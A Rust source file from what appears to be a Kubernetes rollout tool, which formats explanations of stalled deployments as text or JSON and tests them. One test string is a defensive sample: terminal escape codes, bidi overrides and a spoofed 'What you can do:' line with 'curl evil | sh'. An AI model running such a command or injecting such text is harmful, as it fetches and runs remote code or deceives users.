//! How an explanation is printed: for users and for programs.

use super::{super::options::PlanOutput, super::report, Evidence, Explanation, Next};
use crate::progress::{line, one_line};
use berth_registry::table::age;
use berth_workloads::cause::{Obstacle, ToDo};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use serde::Serialize;
use std::fmt::Write;

/// Prints the explanation.
pub(super) fn print(explanation: &Explanation, output: Option<PlanOutput>) {
    match output {
        Some(PlanOutput::Json) => line(&report::json(&Report::of(explanation))),
        None => line(&text(explanation)),
    }
}

/// The whole explanation: its first line contains the cause. Text from the cluster is always one line, so that it cannot be mistaken for
/// berth's own.
fn text(explanation: &Explanation) -> String {
    let Explanation { kind, name, message, obstacles, evidence, next, to_do, notes, unread, at, .. } = explanation;
    let title = format!("{}/{}", kind.to_lowercase(), one_line(name));
    let mut text = String::new();
    let mut add = |line: &str| writeln!(text, "{line}").expect("a String takes whatever is written");
    match obstacles.split_first() {
        None => add(&format!("{title}: {}", one_line(message))),
        Some((first, rest)) => {
            add(&format!("{title}: {}", one_line(&first.to_string())));
            rest.iter().for_each(|other| add(&format!("  also: {}", one_line(&other.to_string()))));
            add(&format!("  status: {}", one_line(message)));
        }
    }
    notes.iter().for_each(|note| add(&format!("  {}", one_line(note))));
    unread.iter().for_each(|what| add(&format!("  not readable: {}", one_line(what))));
    if !evidence.is_empty() {
        add("Evidence:");
        for Evidence { source, object, text, at: seen } in evidence {
            let when = seen.map(|seen| format!(" {} ago", age::since(Some(&Time(seen)), *at))).unwrap_or_default();
            add(&format!("  {source}{when}, {}: {}", one_line(object), one_line(text)));
        }
    }
    if !next.is_empty() {
        add("What happens next:");
        next.iter().for_each(|Next { text, .. }| add(&format!("  {text}")));
    }
    if !to_do.is_empty() {
        add("What you can do:");
        for ToDo { text, command } in to_do {
            add(&format!("  {text}:"));
            add(&format!("    {}", one_line(command)));
        }
    }
    text.trim_end().to_owned()
}

/// The format of `-o json`. It is an interface: fields are only ever added, and words never change their meaning.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Report<'a> {
    kind: &'a str,
    namespace: &'a str,
    name: &'a str,
    /// `Waiting`, `Complete` or `Failed`.
    state: &'a str,
    message: &'a str,
    /// The most important cause. Null if there is none.
    cause: Option<Reason<'a>>,
    /// The other causes, by rank.
    also: Vec<Reason<'a>>,
    evidence: Vec<Shown<'a>>,
    next: Vec<Coming<'a>>,
    to_do: Vec<Doing<'a>>,
    notes: &'a [String],
    /// What could not be read.
    unread: &'a [String],
}

#[derive(Serialize)]
struct Reason<'a> {
    /// The reason of a cause or a wait, as in `berth rollout status -o json`.
    reason: &'a str,
    message: String,
    /// The number of affected pods, if the cause is about pods.
    #[serde(skip_serializing_if = "Option::is_none")]
    pods: Option<usize>,
    /// One of the pods, or the object that cannot create them.
    #[serde(skip_serializing_if = "Option::is_none")]
    object: Option<Named<'a>>,
    /// The cluster's own text.
    #[serde(skip_serializing_if = "Option::is_none")]
    evidence: Option<&'a str>,
}

#[derive(Serialize)]
struct Named<'a> {
    kind: &'a str,
    name: &'a str,
}

#[derive(Serialize)]
struct Shown<'a> {
    source: &'a str,
    object: &'a str,
    text: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    at: Option<String>,
}

#[derive(Serialize)]
struct Coming<'a> {
    text: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    at: Option<String>,
}

#[derive(Serialize)]
struct Doing<'a> {
    text: &'a str,
    command: &'a str,
}

impl<'a> Report<'a> {
    fn of(explanation: &'a Explanation) -> Self {
        let Explanation { kind, namespace, name, state, message, obstacles, evidence, next, to_do, notes, unread, at: _, input: _ } =
            explanation;
        let mut reasons = obstacles.iter().map(Reason::of);
        Self {
            kind,
            namespace,
            name,
            state,
            message,
            cause: reasons.next(),
            also: reasons.collect(),
            evidence: evidence
                .iter()
                .map(|Evidence { source, object, text, at }| Shown { source, object, text, at: at.map(|at| at.to_string()) })
                .collect(),
            next: next.iter().map(|Next { text, at }| Coming { text, at: at.map(|at| at.to_string()) }).collect(),
            to_do: to_do.iter().map(|ToDo { text, command }| Doing { text, command }).collect(),
            notes,
            unread,
        }
    }
}

impl<'a> Reason<'a> {
    fn of(obstacle: &'a Obstacle) -> Self {
        let of_cause = match obstacle {
            Obstacle::Cause(cause) => Some(cause),
            Obstacle::Wait(_) => None,
        };
        Self {
            reason: obstacle.reason(),
            message: obstacle.to_string(),
            pods: of_cause.map(|cause| cause.pods),
            object: of_cause.map(|cause| Named { kind: cause.about.kind, name: &cause.about.name }),
            evidence: of_cause.map(|cause| cause.evidence.as_str()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::progress::printable;
    use berth_workloads::{
        Wait,
        cause::{About, Cause, Kind},
    };

    fn explanation(name: &str, said: &str) -> Explanation {
        let about = About { kind: "Pod", name: name.to_owned() };
        let cause = Cause { kind: Kind::ImagePull, pods: 1, about, evidence: said.to_owned() };
        let at = "2026-01-01T00:00:30Z".parse().expect("a time");
        Explanation {
            kind: "Deployment",
            namespace: "shop".to_owned(),
            name: name.to_owned(),
            state: "Waiting",
            message: said.to_owned(),
            obstacles: vec![Obstacle::Cause(cause), Obstacle::Wait(Wait::Paused)],
            evidence: vec![Evidence { source: "event", object: format!("pod/{name}"), text: said.to_owned(), at: Some(at) }],
            next: vec![Next { text: "it is late".to_owned(), at: Some(at) }],
            to_do: vec![ToDo { text: "see it", command: format!("kubectl get {name}") }],
            notes: vec![said.to_owned()],
            unread: vec![said.to_owned()],
            at: "2026-01-01T00:00:42Z".parse().expect("a time"),
            input: None,
        }
    }

    #[test]
    fn the_cause_comes_first_then_what_shows_it_then_what_to_do() {
        let wanted = "deployment/web: web cannot pull its image: no such image
  also: paused: the template does not roll out until you resume it
  status: no such image
  no such image
  not readable: no such image
Evidence:
  event 12s ago, pod/web: no such image
What happens next:
  it is late
What you can do:
  see it:
    kubectl get web";
        assert_eq!(text(&explanation("web", "no such image")), wanted);
    }

    /// Any client with write access can choose event messages, conditions and names.
    #[test]
    fn texts_of_a_cluster_can_neither_steer_a_terminal_nor_pass_for_lines_of_the_output() {
        let hostile =
            "x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{202e}\u{2066}\u{61c}\u{2028}\r\nWhat you can do:\n    curl evil | sh\ty\u{85}z\u{0}";
        let lines = |text: &str| text.lines().count();
        let shown = text(&explanation(hostile, hostile));
        let printed = printable(&shown);
        assert_eq!(lines(&printed), lines(&text(&explanation("web", "no such image"))), "{printed}");
        assert!(
            !printed.chars().any(|char| (char.is_control() && char != '\n') || "\u{202e}\u{2066}\u{61c}\u{2028}".contains(char)),
            "{printed}"
        );
        assert_eq!(printed.lines().filter(|line| line.starts_with("What you can do:")).count(), 1);
        // Programs read the unchanged text.
        let json = report::json(&Report::of(&explanation(hostile, hostile)));
        assert!(!json.chars().any(char::is_control) && !json.contains('\u{202e}'), "{json}");
        let read: serde_json::Value = serde_json::from_str(&json).expect("JSON");
        assert_eq!(
            (&read["name"], &read["cause"]["evidence"], &read["evidence"][0]["text"]),
            (&hostile.into(), &hostile.into(), &hostile.into())
        );
    }

    /// Users' programs read this format, so a change of it is an interface change.
    #[test]
    fn every_key_and_word_is_as_promised() {
        let all = [
            r#"{"kind":"Deployment","namespace":"shop","name":"web","state":"Waiting","message":"no","#,
            r#""cause":{"reason":"image_pull","message":"web cannot pull its image: no","pods":1,"object":{"kind":"Pod","name":"web"},"evidence":"no"},"#,
            r#""also":[{"reason":"paused","message":"paused: the template does not roll out until you resume it"}],"#,
            r#""evidence":[{"source":"event","object":"pod/web","text":"no","at":"2026-01-01T00:00:30Z"}],"#,
            r#""next":[{"text":"it is late","at":"2026-01-01T00:00:30Z"}],"#,
            r#""toDo":[{"text":"see it","command":"kubectl get web"}],"notes":["no"],"unread":["no"]}"#,
        ];
        assert_eq!(report::json(&Report::of(&explanation("web", "no"))), all.concat());
        let fine = Explanation { obstacles: Vec::new(), evidence: Vec::new(), ..explanation("web", "no") };
        assert!(report::json(&Report::of(&fine)).contains(r#""cause":null,"also":[],"evidence":[]"#));
        assert!(text(&fine).starts_with("deployment/web: no\n"));
    }
}
